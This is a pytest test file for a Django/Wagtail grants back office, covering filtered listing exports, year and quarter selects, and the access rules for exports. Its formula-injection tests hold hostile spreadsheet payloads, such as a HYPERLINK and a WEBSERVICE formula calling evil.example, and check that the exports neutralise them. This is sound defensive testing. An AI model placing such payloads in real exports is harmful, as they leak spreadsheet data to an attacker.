"""Every listing of the back office filters as the person asked and exports exactly what it lists: the year and
quarter selects start with "All", offer only years with data, name the active filters in words, and every
exported cell that a spreadsheet would run as a formula is neutralised, in CSV and XLSX, ours and Wagtail's."""

import csv
import datetime
import io
import re
from decimal import Decimal
from html import unescape

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.log_actions import log

from funding.admin_views import export_value
from funding.models import Area
from funding.money import gbp
from funding.roles import Role
from programmes.models import GrantVariation, Indicator, IndicatorValue, Payment, QuarterlyReturn
from tests.admin_helpers import (
    FUNDING_LISTINGS,
    OVERRIDES_LISTING,
    PROGRAMMES_LISTINGS,
    RETURNS_LISTINGS,
    REVIEW_QUEUE,
    USERS_LISTING,
    admin_url,
    build_rows,
    superuser,
)
from tests.factories import (
    AllocationFactory,
    BudgetLineFactory,
    FunderFactory,
    GrantFactory,
    IndicatorFactory,
    OrganisationFactory,
    TargetFactory,
    UserFactory,
    funded_grant,
    office_user,
)

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "xlsx"]
EVERY_LISTING = FUNDING_LISTINGS + [OVERRIDES_LISTING] + PROGRAMMES_LISTINGS + RETURNS_LISTINGS
EVERY_LISTING += [REVIEW_QUEUE, USERS_LISTING]


@pytest.fixture
def admin_client(db):
    client = Client()
    client.force_login(superuser())
    return client


def exported(client, url: str, fmt: str) -> list[list]:
    """The export's table, header row first, read back from the file."""
    response = client.get(url)
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8"))))
    return [list(row) for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)]


def header_buttons(html: str) -> dict[str, str]:
    """The header's buttons that are links (not items of its "…" menu), by name: their aria-label, else their label."""
    buttons = {}
    links = re.findall(r'<a href="([^"]+)" class="[^"]*w-header-button[^"]*"([^>]*)>(.*?)</a>', html, re.S)
    for url, attrs, label in links:
        aria_label = re.search(r'aria-label="([^"]*)"', attrs)
        name = aria_label.group(1) if aria_label else re.sub(r"<.*?>", "", label, flags=re.S)
        buttons[unescape(name).strip()] = unescape(url)
    return buttons


def year_options(html: str) -> list[tuple[str, str]]:
    """The financial year select's options, (value, label), in order."""
    select = re.search(r'<select name="financial_year"[^>]*>(.*?)</select>', html, re.S).group(1)
    return [
        (value, unescape(label)) for value, label in re.findall(r'<option value="([^"]*)"[^>]*>(.*?)</option>', select)
    ]


def active_filters(html: str) -> list[str]:
    """The active filters above the results, as they read: "Financial year: 2024/25"."""
    pills = re.findall(r'<span class="w-text-14">\s*(.*?)\s*</span>\s*<b class="w-ml-1">(.*?)</b>', html, re.S)
    return [f"{unescape(label)} {unescape(value)}" for label, value in pills]


# --- For each listing: rows that a filter splits, and the filter ------------------------------------------------


def _years(model_rows):
    """Rows in 2023/24 and 2024/25, with the allocations that make those years the ones on offer."""
    AllocationFactory(financial_year=2023)
    AllocationFactory(financial_year=2024)
    for year in (2023, 2023, 2024):
        model_rows(year)
    return "financial_year=2024"


def _organisations():
    OrganisationFactory()
    OrganisationFactory()
    FunderFactory()
    return "kind=funder"


def _areas():
    for i, geo_type in enumerate([Area.GeoType.LAD, Area.GeoType.LAD, Area.GeoType.UA]):
        Area.objects.create(name=f"Area {i}", code=f"E0{i:07d}", geo_type=geo_type)
    return "geo_type=UA"


def _payment(year):
    Payment.objects.create(
        grant=GrantFactory(), amount=gbp("1000.00"), date=datetime.date(year, 5, 1), financial_year=year, quarter=1
    )


def _return(year, quarter=1, **fields):
    QuarterlyReturn.objects.create(
        grant=GrantFactory(), financial_year=year, quarter=quarter, due_date=datetime.date(year, 7, 30), **fields
    )


def _indicator_value(year):
    IndicatorValue.objects.create(
        indicator=IndicatorFactory(),
        grant=GrantFactory(),
        source=IndicatorValue.Source.OFFICE,
        financial_year=year,
        quarter=1,
        value=Decimal("12"),
        entered_by=UserFactory(),
    )


def _overrides():
    build_rows(OVERRIDES_LISTING, 4)
    return "kind=charge"


def _budget_lines():
    BudgetLineFactory()
    BudgetLineFactory()
    BudgetLineFactory(category="equipment")
    return "category=equipment"


def _indicators():
    IndicatorFactory()
    IndicatorFactory()
    IndicatorFactory(kind=Indicator.Kind.OUTCOME)
    return "kind=outcome"


def _variations():
    build_rows("outturn_variations", 2)
    GrantVariation.objects.create(
        grant=GrantFactory(),
        kind=GrantVariation.Kind.DATES,
        reason="Started late",
        before={},
        after={},
        made_by=UserFactory(),
    )
    return "kind=dates"


def _review_queue():
    submitted = {"status": QuarterlyReturn.Status.SUBMITTED, "submitted_at": timezone.now()}
    for quarter in (1, 1, 2):
        _return(2023, quarter, **submitted)
    return "quarter=2"


def _users():
    office = OrganisationFactory()
    UserFactory(organisation=OrganisationFactory(), roles=[Role.PROVIDER_EDITOR])
    UserFactory(organisation=office, roles=[Role.PROVIDER_EDITOR])
    return f"organisation={office.pk}"


FILTERED = {
    "outturn_organisations": _organisations,
    "outturn_areas": _areas,
    "outturn_streams": lambda: _years(lambda year: AllocationFactory(financial_year=year)),
    "outturn_allocations": lambda: _years(lambda year: AllocationFactory(financial_year=year)),
    OVERRIDES_LISTING: _overrides,
    "outturn_programmes": lambda: _years(lambda year: funded_grant(year=year)),
    "outturn_grants": lambda: _years(lambda year: funded_grant(year=year)),
    "outturn_budget_lines": _budget_lines,
    "outturn_indicators": _indicators,
    "outturn_targets": lambda: _years(lambda year: TargetFactory(financial_year=year)),
    "outturn_returns": lambda: _years(_return),
    "outturn_payments": lambda: _years(_payment),
    "outturn_indicator_values": lambda: _years(_indicator_value),
    "outturn_variations": _variations,
    REVIEW_QUEUE: _review_queue,
    USERS_LISTING: _users,
}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("viewset", EVERY_LISTING)
def test_a_filtered_listing_exports_exactly_the_rows_it_lists_from_its_header_button(admin_client, viewset, fmt):
    query = FILTERED[viewset]()
    listing = admin_client.get(f"{admin_url(viewset)}?{query}")
    assert listing.status_code == 200
    view, rows = listing.context["view"], list(listing.context["object_list"])
    everything = admin_client.get(admin_url(viewset)).context["items_count"]
    assert 0 < len(rows) == listing.context["items_count"] < everything, query  # the filter narrows the listing

    buttons = header_buttons(listing.content.decode())
    rows_listed = f"of the {view.verbose_name_plural} listed"
    assert {f"Download CSV {rows_listed}", f"Download XLSX {rows_listed}"} <= set(buttons)
    header, *exported_rows = exported(admin_client, buttons[f"Download {fmt.upper()} {rows_listed}"], fmt)

    # Each listed row is one exported row: compared on the first two columns the export writes.
    def cells(values):
        return tuple("" if value is None else str(value) for value in values)

    listed = sorted(cells(export_value(row, accessor) for accessor in view.list_export[:2]) for row in rows)
    assert sorted(cells(row[:2]) for row in exported_rows) == listed
    assert len(header) == len(view.list_export)


def test_the_downloads_are_header_buttons_not_a_menu(board_client):
    build_rows("outturn_variations", 1)
    html = board_client.get(admin_url("outturn_variations") + "?kind=amount").content.decode()
    assert header_buttons(html) == {
        "Download CSV of the grant variations listed": "/admin/returns/variations/?kind=amount&export=csv",
        "Download XLSX of the grant variations listed": "/admin/returns/variations/?kind=amount&export=xlsx",
    }


def test_the_buttons_the_results_bring_back_after_a_filter_change_export_from_the_listing(board_client):
    # Wagtail swaps in the results of each filter change with the header's buttons, rendered by the results view.
    build_rows("outturn_payments", 2)
    results = board_client.get(admin_url("outturn_payments", "index_results") + "?quarter=1&_w_filter_fragment=1")
    html = results.content.decode()
    assert 'data-w-teleport-target-value="#w-slim-header-buttons"' in html
    assert (
        header_buttons(html)["Download CSV of the payments listed"] == "/admin/returns/payments/?quarter=1&export=csv"
    )


# --- The year and quarter selects -------------------------------------------------------------------------------


@pytest.fixture
def allocated_years(db):
    """Money allocated in 2023/24 and 2024/25 only."""
    AllocationFactory(financial_year=2023)
    AllocationFactory(financial_year=2024)


def test_a_year_select_starts_with_all_and_offers_only_the_allocated_years(board_client, allocated_years):
    funded_grant(year=2024)
    for viewset in ["outturn_grants", "outturn_streams", "outturn_allocations", "outturn_targets", OVERRIDES_LISTING]:
        html = board_client.get(admin_url(viewset)).content.decode()
        assert year_options(html) == [("", "All"), ("2023", "2023/24"), ("2024", "2024/25")], viewset


def test_a_listing_of_records_with_a_year_of_their_own_offers_theirs_too(board_client, allocated_years):
    # A baseline figure from before any money was allocated, and a payment after the last allocated year.
    _indicator_value(2021)
    _payment(2026)
    values = board_client.get(admin_url("outturn_indicator_values")).content.decode()
    assert [value for value, _ in year_options(values)] == ["", "2021", "2023", "2024"]
    payments = board_client.get(admin_url("outturn_payments")).content.decode()
    assert year_options(payments) == [("", "All"), ("2023", "2023/24"), ("2024", "2024/25"), ("2026", "2026/27")]


def test_with_no_data_the_year_select_offers_only_all(board_client):
    assert year_options(board_client.get(admin_url("outturn_payments")).content.decode()) == [("", "All")]


def test_the_quarter_select_starts_with_all(board_client):
    html = board_client.get(admin_url("outturn_payments")).content.decode()
    select = re.search(r'<select name="quarter"[^>]*>(.*?)</select>', html, re.S).group(1)
    assert re.findall(r'<option value="([^"]*)"', select) == ["", "1", "2", "3", "4"]
    assert re.search(r'<option value=""[^>]*>All</option>', select)


def test_picking_one_filter_leaves_the_others_open(finance_client, allocated_years):
    # The filter panel sends every field: one picked, the selects left at "All" (empty).
    _payment(2023)
    _payment(2024)
    Payment.objects.update(status=Payment.Status.PAID)
    _payment(2024)
    response = finance_client.get(admin_url("outturn_payments") + "?status=paid&financial_year=&quarter=&provider=")
    assert len(response.context["object_list"]) == 2
    assert response.context["items_count"] == 2


# --- Active filters read in words -------------------------------------------------------------------------------


def test_the_active_filters_read_in_words(finance_client, allocated_years):
    _payment(2024)
    provider = Payment.objects.get().grant.provider
    query = (
        f"financial_year=2024&quarter=1&status=planned&due_for_approval=false&is_override=false&provider={provider.pk}"
    )
    html = finance_client.get(f"{admin_url('outturn_payments')}?{query}").content.decode()
    assert active_filters(html) == [
        "Status: Planned",
        "Financial year: 2024/25",
        "Quarter: Q1 (Apr–Jun)",
        f"Provider: {provider.name}",
        "Past the grant's amount: No",
        "Due for approval: No",
    ]
    html = finance_client.get(admin_url("outturn_payments") + "?due_for_approval=true").content.decode()
    assert active_filters(html) == ["Due for approval: Yes"]


# --- Formula injection ------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+2", "-3+4", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(finance_client, fmt):
    grant = GrantFactory(title=FORMULAS[1], provider=OrganisationFactory(name=FORMULAS[3]))
    for index, reference in enumerate([FORMULAS[0], FORMULAS[2], FORMULAS[4], FORMULAS[5], "AP-0001"]):
        Payment.objects.create(
            grant=grant,
            amount=gbp(f"{index + 1}000.00"),
            date=datetime.date(2023, 5, 1),
            financial_year=2023,
            quarter=1,
            reference=reference,
        )
    header, *rows = exported(finance_client, f"{admin_url('outturn_payments')}?export={fmt}", fmt)
    rows = [dict(zip(header, row, strict=True)) for row in rows]
    # XLSX is XML, which reads a carriage return back as a line feed.
    references = sorted(row["Ledger reference"].replace("\r", "\n") for row in rows)
    neutralised = ["'" + formula for formula in (FORMULAS[0], FORMULAS[2], FORMULAS[4], FORMULAS[5])]
    assert references == sorted([*(text.replace("\r", "\n") for text in neutralised), "AP-0001"])
    assert {(row["Grant title"], row["Provider"]) for row in rows} == {("'" + FORMULAS[1], "'" + FORMULAS[3])}
    # Numbers stay numbers: only text is neutralised.
    assert sorted(Decimal(str(row["Amount (£)"])) for row in rows) == [Decimal(f"{i}000") for i in range(1, 6)]


@pytest.mark.parametrize("fmt", FORMATS)
def test_wagtails_own_exports_neutralise_formulas_too(fmt):
    admin = superuser()
    client = Client()
    client.force_login(admin)
    organisation = OrganisationFactory(name='=WEBSERVICE("https://evil.example")')
    log(instance=organisation, action="wagtail.create", user=admin)
    header, *rows = exported(client, f"/admin/reports/site-history/?export={fmt}", fmt)
    names = [dict(zip(header, row, strict=True))["Name"] for row in rows]
    assert '\'=WEBSERVICE("https://evil.example")' in names


def test_a_provider_user_cannot_reach_any_export(provider_client):
    for viewset in EVERY_LISTING:
        response = provider_client.get(f"{admin_url(viewset)}?export=csv")
        assert response.status_code == 302, viewset


def test_the_users_export_is_for_those_who_manage_users(board_client):
    office_user(Role.COMMISSIONING_OFFICER)
    response = board_client.get(f"{admin_url(USERS_LISTING)}?export=csv")
    assert response.status_code == 302
